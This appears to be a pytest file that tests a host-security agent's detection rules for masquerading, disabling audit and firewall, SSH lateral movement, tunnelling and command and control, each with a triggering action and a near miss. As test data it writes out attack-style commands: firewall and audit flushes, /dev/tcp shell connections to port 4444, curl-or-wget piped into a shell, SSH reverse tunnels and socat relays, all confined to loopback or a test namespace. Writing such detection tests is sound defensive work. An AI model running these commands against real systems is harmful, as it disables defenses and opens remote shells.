"""Default rules for masquerading, impaired defenses, service stops, lateral movement
over SSH, tunnels and command and control, end to end (see test_rules.py for the
pattern): a real action that makes each rule fire, and a near miss that must not.

Tools that are not installed here (sshpass, socat, chisel, nft, ufw, auditctl's
destructive forms) are copies of /bin/true under the tool's name, since the rules
key on names and arguments; ssh, curl, iptables and kill are the real ones, run
where they harm nothing (closed loopback ports, a network namespace of the test's
own). Network traffic goes only to loopback or to that namespace.
"""
import ctypes
import os
import platform
import shutil
import signal
import struct
import subprocess
import sys
import time

import pytest

from conftest import PODMAN_RUN
from test_rules import (  # noqa: F401 - rv, etc_file and home are fixtures
    closed_port, copy_exe, etc_file, fired, home, nonce, not_fired, of, run, rv, script)


def in_container(a):
    return of(a, "container.id") not in (None, "host")


# ---------------------------------------------------------------------------
# masquerading
# ---------------------------------------------------------------------------

def test_system_utility_run_under_another_name(rv, workdir):
    rule = "System utility run under another name or from another place"
    curl = shutil.which("curl")
    # renamed: curl copied to a dot file and run with argv[0] "curl"
    hidden = copy_exe(curl, os.path.join(workdir, ".x"))
    renamed, _ = run(["curl", "--version"], executable=hidden)
    # moved: the same name, outside the system directories
    moved = copy_exe(curl, os.path.join(workdir, "curl"))
    moved_pid, _ = run([moved, "--version"])
    # near misses: a symlink to the system's curl, and a copy under a name of its own
    os.mkdir(os.path.join(workdir, "links"))
    link = os.path.join(workdir, "links", "curl")
    os.symlink(curl, link)
    near_link, _ = run([link, "--version"])
    own = copy_exe(curl, os.path.join(workdir, "fetcher"))
    near_own, _ = run([own, "--version"])
    a = fired(rv, rule, proc_pid=renamed)
    assert of(a, "proc.exe") == "curl" and of(a, "proc.exepath") == hidden, a
    fired(rv, rule, proc_pid=moved_pid, proc_name="curl")
    not_fired(rv, rule, proc_pid=near_link)
    not_fired(rv, rule, proc_pid=near_own)


def test_program_named_like_a_daemon_from_a_temporary_directory(rv, workdir, home):
    rule = "Program named like a system daemon run from a user or temporary directory"
    sshd = copy_exe("/bin/true", os.path.join(workdir, "sshd"))
    pid, _ = run([sshd, "-D"])
    # a name of its own, but argv[0] claims a system path (ps shows /usr/sbin/cron -f)
    os.makedirs(os.path.join(home, ".cache"), exist_ok=True)
    x = copy_exe("/bin/true", os.path.join(home, ".cache", "x"))
    claimed, _ = run(["/usr/sbin/cron", "-f"], executable=x)
    # near misses: the system's own binary under a daemon's argv[0], and a name that
    # only starts like a daemon's
    near_sys, _ = run(["sshd", "-D"], executable="/bin/true")
    notes = copy_exe("/bin/true", os.path.join(workdir, "sshd-notes"))
    near_name, _ = run([notes])
    # a script in a home directory: its argv[0] is its interpreter's path (/usr/bin/env)
    tool = os.path.join(home, ".cache", "tool")
    with open(tool, "w") as f:
        f.write("#!/usr/bin/env sh\ntrue\n")
    os.chmod(tool, 0o755)
    near_script, _ = run([tool])
    fired(rv, rule, proc_pid=pid, proc_name="sshd")
    a = fired(rv, rule, proc_pid=claimed)
    assert of(a, "proc.exe") == "/usr/sbin/cron" and of(a, "proc.exepath") == x, a
    not_fired(rv, rule, proc_pid=near_sys)
    not_fired(rv, rule, proc_pid=near_name)
    not_fired(rv, rule, proc_pid=near_script)


def test_executable_with_a_double_extension(rv, workdir):
    rule = "Executable with a double extension or a trailing space"
    pdf = script(os.path.join(workdir, "invoice.pdf.sh"), "true")
    spaced = copy_exe("/bin/true", os.path.join(workdir, "report.txt .elf"))
    jpg = copy_exe("/bin/true", os.path.join(workdir, "IMG_0042.JPG.exe"))
    trailing = copy_exe("/bin/true", os.path.join(workdir, "notes "))
    hits = {}
    for path in (pdf, spaced, jpg, trailing):
        hits[path], _ = run([path])
    # near misses: a version number and a name that only mentions a document type
    near = [run([copy_exe("/bin/true", os.path.join(workdir, n))])[0]
            for n in ("tool.v2.bin", "archive-pdf.sh", "python3.11")]
    # the script runs through its interpreter: the name is in the exec's filename
    a = fired(rv, rule, proc_pid=hits[pdf])
    assert of(a, "evt.arg.filename") == pdf, a
    for path in (spaced, jpg, trailing):
        fired(rv, rule, proc_pid=hits[path], proc_exepath=path)
    for pid in near:
        not_fired(rv, rule, proc_pid=pid)


# ---------------------------------------------------------------------------
# impairing defenses
# ---------------------------------------------------------------------------

def test_linux_audit_disabled(rv, workdir):
    rule = "Linux audit disabled"
    auditctl = copy_exe("/bin/true", os.path.join(workdir, "auditctl"))
    near_list, _ = run([auditctl, "-l"])
    near_status, _ = run(["systemctl", "status", "auditd"], check=False)
    delete, _ = run([auditctl, "-D"])
    off, _ = run([auditctl, "-e", "0"])
    stop, _ = run(["systemctl", "stop", "auditd.service"], check=False)
    # a signal to a process named auditd (none runs here: a copy of sleep stands in)
    daemon = subprocess.Popen([copy_exe(shutil.which("sleep"), os.path.join(workdir, "auditd")),
                               "30"])
    try:
        time.sleep(0.2)
        near_cont, _ = run(["kill", "-CONT", str(daemon.pid)])
        killer, _ = run(["kill", "-TERM", str(daemon.pid)])
    finally:
        daemon.kill()
        daemon.wait()
    for pid in (delete, off, stop):
        fired(rv, rule, proc_pid=pid)
    a = fired(rv, rule, proc_pid=killer, evt_type="kill")
    assert of(a, "evt.target.name") == "auditd" and of(a, "evt.arg.sig") == "SIGTERM", a
    for pid in (near_list, near_status, near_cont):
        not_fired(rv, rule, proc_pid=pid)


def test_firewall_disabled_or_flushed(rv, workdir):
    rule = "Firewall disabled or flushed"
    # the real iptables, in a network namespace of its own: nothing of the host's changes
    flush, _ = run(["unshare", "--net", "iptables", "-F"], check=False)
    policy, _ = run(["unshare", "--net", "iptables", "-P", "INPUT", "ACCEPT"], check=False)
    # the IPv6 twin, deleting every user chain
    v6, _ = run(["unshare", "--net", "ip6tables", "-t", "filter", "-X"], check=False)
    nft = copy_exe("/bin/true", os.path.join(workdir, "nft"))
    ufw = copy_exe("/bin/true", os.path.join(workdir, "ufw"))
    ruleset, _ = run([nft, "flush", "ruleset"])
    disable, _ = run([ufw, "disable"])
    stop, _ = run(["systemctl", "stop", "firewalld"], check=False)
    # near misses: listing, flushing a chain of one's own, ufw status, and a flush by a
    # firewall manager (by name)
    near = [run(["unshare", "--net", "iptables", "-L"], check=False)[0],
            run(["unshare", "--net", "iptables", "-F", "VIGIL-E2E"], check=False)[0],
            run([ufw, "status"])[0], run([nft, "list", "ruleset"])[0]]
    mgr = script(os.path.join(workdir, "fail2ban-server"), f"{nft} flush ruleset")
    run([mgr])
    for pid in (flush, policy, v6, ruleset, disable, stop):
        fired(rv, rule, proc_pid=pid)
    for pid in near:
        not_fired(rv, rule, proc_pid=pid)
    not_fired(rv, rule, proc_pname="fail2ban-server")


def test_security_tool_disabled_leaves_audit_and_firewall_to_their_rules(rv):
    """auditd and firewalld used to be this rule's; their own rules say what happened."""
    pid, _ = run(["systemctl", "stop", "auditd"], check=False)
    fired(rv, "Linux audit disabled", proc_pid=pid)
    not_fired(rv, "Security tool disabled", proc_pid=pid)


def test_signal_sent_to_vigil(rv, workdir):
    rule = "Signal sent to vigil"
    agent = rv.proc.pid
    # SIGSTOP freezes the agent; continued, it reports the stop itself
    try:
        stopper, _ = run(["kill", "-STOP", str(agent)])
    finally:
        cont, _ = run(["kill", "-CONT", str(agent)])
    # the same through tgkill(2), as a thread-directed signal
    code = (f"import ctypes, sys; ctypes.CDLL(None).syscall({NR_TGKILL}, int(sys.argv[1]), "
            "int(sys.argv[1]), int(sys.argv[2]))")
    try:
        tg, _ = run([sys.executable, "-c", code, str(agent), str(int(signal.SIGSTOP))])
    finally:
        run(["kill", "-CONT", str(agent)])
    a = fired(rv, rule, proc_pid=stopper)
    assert of(a, "evt.arg.sig") == "SIGSTOP" and of(a, "evt.arg.pid") == str(agent), a
    a = fired(rv, rule, proc_pid=tg)
    assert of(a, "evt.arg.sig") == "SIGSTOP" and of(a, "evt.target.name") == "vigil", a
    assert of(a, "evt.target.exepath") == os.path.realpath(rv.proc.args[0]), a
    # SIGKILL cannot be reported by its victim: another agent (here rv, for a process
    # named vigil) sees it
    other = subprocess.Popen([copy_exe(shutil.which("sleep"), os.path.join(workdir, "vigil")),
                              "30"])
    look_alike = subprocess.Popen([copy_exe(shutil.which("sleep"),
                                            os.path.join(workdir, "vigilant")), "30"])
    time.sleep(0.2)
    killer, _ = run(["kill", "-KILL", str(other.pid)])
    near, _ = run(["kill", "-TERM", str(look_alike.pid)])
    other.wait()
    look_alike.wait()
    fired(rv, rule, proc_pid=killer, evt_arg_sig="SIGKILL")
    not_fired(rv, rule, proc_pid=cont)
    not_fired(rv, rule, proc_pid=near)


NR_BPF = {"x86_64": 321, "aarch64": 280}[platform.machine()]
NR_TGKILL = {"x86_64": 234, "aarch64": 131}[platform.machine()]
BPF_MAP_CREATE, BPF_OBJ_PIN, BPF_LINK_DETACH, BPF_PROG_GET_NEXT_ID = 0, 6, 34, 11


def bpf(cmd, attr):
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(attr, 128)
    ret = libc.syscall(NR_BPF, cmd, buf, 128)
    return ret, ctypes.get_errno()


def pin_map(path):
    """Creates a one-entry array map and pins it at path."""
    fd, err = bpf(BPF_MAP_CREATE, struct.pack("IIII", 2, 4, 4, 1))
    assert fd >= 0, os.strerror(err)
    try:
        name = ctypes.create_string_buffer(path.encode())
        ret, err = bpf(BPF_OBJ_PIN, struct.pack("QI", ctypes.addressof(name), fd))
        assert ret == 0, os.strerror(err)
    finally:
        os.close(fd)


def test_vigil_files_or_pinned_bpf_objects_changed(rv, workdir, etc_file):
    rule = "Vigil files or pinned BPF objects changed"
    conf = etc_file("/etc/vigil", nonce() + ".yaml")
    dpkg = copy_exe(shutil.which("tee"), os.path.join(workdir, "dpkg"))
    near_conf = etc_file("/etc/vigil", nonce() + ".yaml")
    run([dpkg, near_conf], stdin=subprocess.DEVNULL)  # a package manager (by name)
    with open(near_conf) as f:  # read, not written
        f.read()
    with open(conf, "w") as f:
        f.write("# vigil end-to-end test\n")
    moved = conf + ".moved"
    os.rename(conf, moved)  # renamed in place rather than written
    os.rename(moved, conf)
    os.unlink(conf)
    pin = "/sys/fs/bpf/vigil-e2e-" + nonce()[10:]
    near_pin = "/sys/fs/bpf/e2e-other-" + nonce()[10:]
    try:
        pin_map(pin)
        pin_map(near_pin)
    finally:
        for p in (near_pin, pin):
            if os.path.lexists(p):
                os.unlink(p)
    try:
        fired(rv, rule, fd_name=conf, evt_type="openat")
        fired(rv, rule, fd_name=conf, evt_type="unlink")
        fired(rv, rule, fd_name=conf, evt_type="rename",
              pred=lambda a: of(a, "evt.arg.newpath") == moved)
        fired(rv, rule, fd_name=pin, evt_type="unlink")
        not_fired(rv, rule, fd_name=near_conf)
        not_fired(rv, rule, fd_name=near_pin)
    finally:
        os.unlink(near_conf)  # before the directory made for conf goes


def test_bpf_program_detached(rv):
    code = ("import ctypes, struct, sys; libc = ctypes.CDLL(None, use_errno=True); "
            "buf = ctypes.create_string_buffer(struct.pack('I', 1000), 128); "
            f"libc.syscall({NR_BPF}, int(sys.argv[1]), buf, 128)")
    # a link fd that is no link: refused (EBADF), and still the attempt
    pid, _ = run([sys.executable, "-c", code, str(BPF_LINK_DETACH)])
    near, _ = run([sys.executable, "-c", code, str(BPF_PROG_GET_NEXT_ID)])
    a = fired(rv, "BPF program detached", proc_pid=pid)
    assert of(a, "evt.arg.cmd") == "BPF_LINK_DETACH", a
    not_fired(rv, "BPF program detached", proc_pid=near)


# ---------------------------------------------------------------------------
# impact
# ---------------------------------------------------------------------------

def test_service_stopped_by_a_scheduler_or_server(rv, workdir):
    rule = "Service stopped by a scheduler or server"
    # systemd is not running here: systemctl fails, and its exec is what the rule sees
    cron = script(os.path.join(workdir, "cron"), "systemctl stop mysql.service")
    os.mkdir(os.path.join(workdir, "web"))
    nginx = script(os.path.join(workdir, "web", "nginx"),
                   "pkill -x vigil-e2e-no-such-postgres")
    run([cron])
    run([nginx])
    # near misses: an admin's stop (no scheduler or server above it), a status query
    near, _ = run(["systemctl", "stop", "mysql.service"], check=False)
    os.mkdir(os.path.join(workdir, "near"))
    status = script(os.path.join(workdir, "near", "cron"), "systemctl status mysql.service")
    run([status])
    # logrotate's way: ask nginx to reopen its logs
    os.mkdir(os.path.join(workdir, "rotate"))
    reopen = script(os.path.join(workdir, "rotate", "cron"),
                    "pkill -USR1 -x vigil-e2e-no-such-nginx")
    run([reopen])
    fired(rv, rule, proc_pname="cron", proc_name="systemctl",
          pred=lambda a: of(a, "proc.pcmdline").endswith(cron))
    fired(rv, rule, proc_pname="nginx", proc_name="pkill")
    not_fired(rv, rule, proc_pid=near)
    not_fired(rv, rule, pred=lambda a: of(a, "proc.pcmdline").endswith(status))
    not_fired(rv, rule, pred=lambda a: of(a, "proc.pcmdline").endswith(reopen))


# ---------------------------------------------------------------------------
# lateral movement
# ---------------------------------------------------------------------------

SSH_CONTAINER = """
bb=/bin/busybox
$bb mkdir -p /opt/t
$bb ln -s $bb /opt/t/ssh
/opt/t/ssh -p 1 vigil-e2e-depth@127.0.0.1 true
true
"""


@pytest.fixture(scope="module")
def ssh_container(rv, busybox_image):
    p = subprocess.run(PODMAN_RUN + [busybox_image, "sh", "-c", SSH_CONTAINER],
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
    assert p.returncode == 0, p.stdout.decode()


def ssh(*args, **kw):
    """The real ssh to a closed loopback port, with no terminal: it fails at once."""
    port = closed_port()
    return run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-p", str(port), *args],
               check=False, stdin=subprocess.DEVNULL, start_new_session=True, **kw)[0]


def test_ssh_client_run_in_container(rv, ssh_container):
    rule = "SSH client run in container"
    near = ssh("127.0.0.1", "true")
    a = fired(rv, rule, proc_name="ssh", pred=lambda a: "vigil-e2e-depth@" in of(a, "proc.cmdline"))
    assert in_container(a), a
    not_fired(rv, rule, proc_pid=near)


def test_ssh_client_run_by_server_process(rv, workdir):
    rule = "SSH client run by server process"
    port = closed_port()
    srv = script(os.path.join(workdir, "php-fpm"),
                 f"ssh -o BatchMode=yes -p {port} vigil-e2e@127.0.0.1 true </dev/null")
    run([srv])
    near = ssh("vigil-e2e-near@127.0.0.1", "true")
    fired(rv, rule, proc_pname="php-fpm", proc_name="ssh")
    not_fired(rv, rule, proc_pid=near)


def test_ssh_login_automated(rv, workdir):
    rule = "SSH login automated with a password or without host key checks"
    sshpass = copy_exe("/bin/true", os.path.join(workdir, "sshpass"))
    pw, _ = run([sshpass, "-p", "hunter2", "ssh", "root@127.0.0.1"])
    nocheck = ssh("-o", "StrictHostKeyChecking=no", "root@127.0.0.1", "true")
    near = ssh("-o", "StrictHostKeyChecking=yes", "root@127.0.0.1", "true")
    fired(rv, rule, proc_pid=pw)
    fired(rv, rule, proc_pid=nocheck)
    not_fired(rv, rule, proc_pid=near)


# ---------------------------------------------------------------------------
# protocol tunnelling
# ---------------------------------------------------------------------------

def test_ssh_reverse_tunnel(rv):
    rule = "SSH reverse tunnel or tun device"
    combined = ssh("-fNR", "8022:localhost:22", "127.0.0.1")
    bound = ssh("-R", "0.0.0.0:9000:10.0.0.5:3389", "127.0.0.1")
    tun = ssh("-w", "0:0", "127.0.0.1")
    option = ssh("-o", "RemoteForward=8080 localhost:80", "127.0.0.1")
    # near misses: -R that belongs to the remote command, and a local forward
    near = ssh("127.0.0.1", "chown", "-R", "www-data", "/srv")
    local = ssh("-L", "8080:localhost:80", "127.0.0.1")
    for pid in (combined, bound, tun, option):
        fired(rv, rule, proc_pid=pid)
    not_fired(rv, rule, proc_pid=near)
    not_fired(rv, rule, proc_pid=local)


def test_ssh_local_or_dynamic_port_forward(rv):
    rule = "SSH local or dynamic port forward"
    local = ssh("-L", "127.0.0.1:5433:db.internal:5432", "127.0.0.1")
    socks = ssh("-ND", "1080", "127.0.0.1")
    near = ssh("127.0.0.1", "ls", "-L", "/srv")
    fired(rv, rule, proc_pid=local)
    fired(rv, rule, proc_pid=socks)
    not_fired(rv, rule, proc_pid=near)


def test_socat_relay_between_two_network_ends(rv, workdir):
    rule = "Socat relay between two network ends"
    socat = copy_exe("/bin/true", os.path.join(workdir, "socat"))
    relay, _ = run([socat, "TCP4-LISTEN:9999,fork,reuseaddr", "TCP:127.0.0.1:22"])
    # renamed: the arguments still give it away
    renamed = copy_exe("/bin/true", os.path.join(workdir, "kupdate"))
    disguised, _ = run([renamed, "-d", "udp-recvfrom:53,fork", "openssl:127.0.0.1:443,verify=0"])
    near, _ = run([socat, "-", "TCP:127.0.0.1:22"])
    fired(rv, rule, proc_pid=relay)
    fired(rv, rule, proc_pid=disguised, proc_name="kupdate")
    not_fired(rv, rule, proc_pid=near)


def test_tunnelling_tool_run(rv, workdir):
    rule = "Tunnelling tool run"
    chisel = copy_exe("/bin/true", os.path.join(workdir, "chisel"))
    by_name, _ = run([chisel, "--help"])
    upd = copy_exe("/bin/true", os.path.join(workdir, "updater"))
    chisel_renamed, _ = run([upd, "client", "127.0.0.1:8000", "R:socks"])
    gost_renamed, _ = run([upd, "-L=socks5://:1080"])
    ligolo_renamed, _ = run([upd, "-connect", "127.0.0.1:11601", "-ignore-cert"])
    near = [run([upd, "client", "--version"])[0],
            run(["curl", "-s", "-L", f"http://127.0.0.1:{closed_port()}/"], check=False)[0]]
    for pid in (by_name, chisel_renamed, gost_renamed, ligolo_renamed):
        fired(rv, rule, proc_pid=pid)
    for pid in near:
        not_fired(rv, rule, proc_pid=pid)


# ---------------------------------------------------------------------------
# command and control
# ---------------------------------------------------------------------------

C2_NETNS = """
ip link set lo up
ip addr add 198.51.100.7/32 dev lo
python3 -c '
import socket, sys
s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(8)
print("ready", flush=True)
for _ in range(3):
    s.accept()[0].close()
' > "$1" &
while ! grep -q ready "$1" 2>/dev/null; do sleep 0.05; done
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; echo near $$'
bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444; echo hit $$'
/usr/bin/python3 -c 'import os, socket; socket.create_connection(("198.51.100.7", 4444)); print("py", os.getpid())'
wait
"""


def test_shell_connected_to_an_unnamed_public_address(rv, workdir):
    """A public address (a documentation prefix) put on the loopback device of a network
    namespace the test makes: the shell's connect to it never leaves the namespace."""
    rule = "Shell or interpreter connected to an unnamed public address"
    _, out = run(["unshare", "--net", "sh", "-c", C2_NETNS, "sh",
                  os.path.join(workdir, "listener.out")])
    pids = dict(line.split() for line in out.splitlines())
    a = fired(rv, rule, proc_pid=int(pids["hit"]))
    assert of(a, "fd.sport") == 4444 and "198.51.100.7:4444" in of(a, "fd.name"), a
    a = fired(rv, rule, proc_pid=int(pids["py"]))
    assert of(a, "proc.name").startswith("python3"), a
    not_fired(rv, rule, proc_pid=int(pids["near"]))


def test_download_from_an_ip_address_piped_into_a_shell(rv):
    rule = "Download from an IP address piped into a shell"
    port = closed_port()
    hit_cmd = f"curl -fsS http://127.0.0.1:{port}/x | sh"
    run(["sh", "-c", hit_cmd], check=False)
    wget_cmd = f"wget -qO- http://127.0.0.1:{port}/y.py | python3"
    run(["sh", "-c", wget_cmd], check=False)
    v6_cmd = f"wget -qO- 'http://[::1]:{port}/z' | bash -s"
    run(["sh", "-c", v6_cmd], check=False)
    # near misses: a named host, and a download piped into something that is no shell
    near_cmds = [f"curl -fsS http://localhost:{port}/x | sh",
                 f"curl -fsS http://127.0.0.1:{port}/x | cat"]
    for cmd in near_cmds:
        run(["sh", "-c", cmd], check=False)
    fired(rv, rule, proc_name="sh", pred=lambda a: of(a, "proc.pcmdline").endswith(hit_cmd))
    fired(rv, rule, proc_name="python3",
          pred=lambda a: of(a, "proc.pcmdline").endswith(wget_cmd))
    fired(rv, rule, proc_name="bash", pred=lambda a: of(a, "proc.pcmdline").endswith(v6_cmd))
    for cmd in near_cmds:
        not_fired(rv, rule, pred=lambda a: of(a, "proc.pcmdline").endswith(cmd))
